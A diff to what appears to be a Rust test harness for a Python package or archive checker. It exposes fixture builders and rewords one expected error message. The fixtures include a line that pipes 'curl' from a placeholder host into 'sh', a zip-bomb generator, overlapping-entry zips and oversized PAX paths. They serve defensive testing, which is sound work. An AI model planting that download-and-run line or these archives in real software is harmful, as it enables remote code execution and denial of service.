@@ -19,7 +19,7 @@ const MAX_RSS_KB: i64 = 150 * 1024;
 const HANG_GUARD: Duration = Duration::from_secs(240);
 
 const SP: &str = "venv/lib/python3.12/site-packages";
-const EXEC_LINE: &[u8] = b"import os; os.system('curl -s http://x.invalid | sh')\n";
+pub(crate) const EXEC_LINE: &[u8] = b"import os; os.system('curl -s http://x.invalid | sh')\n";
 
 /// What a case must produce.
 #[derive(Debug, Clone, Copy)]
@@ -296,7 +296,7 @@ fn zeros_zip(name: &str, size: usize) -> Vec<u8> {
 }
 
 /// `size` zero bytes as a raw deflate stream (about 1,000 to 1), with their CRC-32.
-fn deflated_zeros(size: usize) -> (Vec<u8>, u32) {
+pub(crate) fn deflated_zeros(size: usize) -> (Vec<u8>, u32) {
     let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
     let mut crc = flate2::Crc::new();
     let chunk = vec![0u8; 1 << 20];
@@ -310,7 +310,7 @@ fn deflated_zeros(size: usize) -> (Vec<u8>, u32) {
 /// A zip written by hand, so that central entries can share local headers: each local member
 /// (name, deflated body, CRC, size) in order, then one central entry per (central name, index
 /// of the local member it points at).
-fn hand_zip(locals: &[(&str, &[u8], u32, u64)], central: &[(&str, usize)]) -> Vec<u8> {
+pub(crate) fn hand_zip(locals: &[(&str, &[u8], u32, u64)], central: &[(&str, usize)]) -> Vec<u8> {
     let mut out = Vec::new();
     let mut offsets = Vec::new();
     for (name, body, crc, size) in locals {
@@ -353,7 +353,7 @@ fn hand_zip(locals: &[(&str, &[u8], u32, u64)], central: &[(&str, usize)]) -> Ve
 
 /// An sdist whose `setup.py` is named by a PAX `path` record of `len` bytes (`x/x/x/…`): a
 /// few hundred bytes once compressed.
-fn pax_path_sdist(len: usize) -> Vec<u8> {
+pub(crate) fn pax_path_sdist(len: usize) -> Vec<u8> {
     let path: String = "x/".repeat(len / 2);
     let body = format!(" path={path}\n");
     // the record's length counts its own digits
@@ -1257,7 +1257,10 @@ const CASES: &[Case] = &[
             None
         },
         args: &[],
-        expect: &[Problem("case", "index.json` is not a regular file (FIFO)")],
+        expect: &[Problem(
+            "case",
+            "cannot read `index.json`: not a regular file (FIFO)",
+        )],
         unprivileged: false,
     },
     Case {
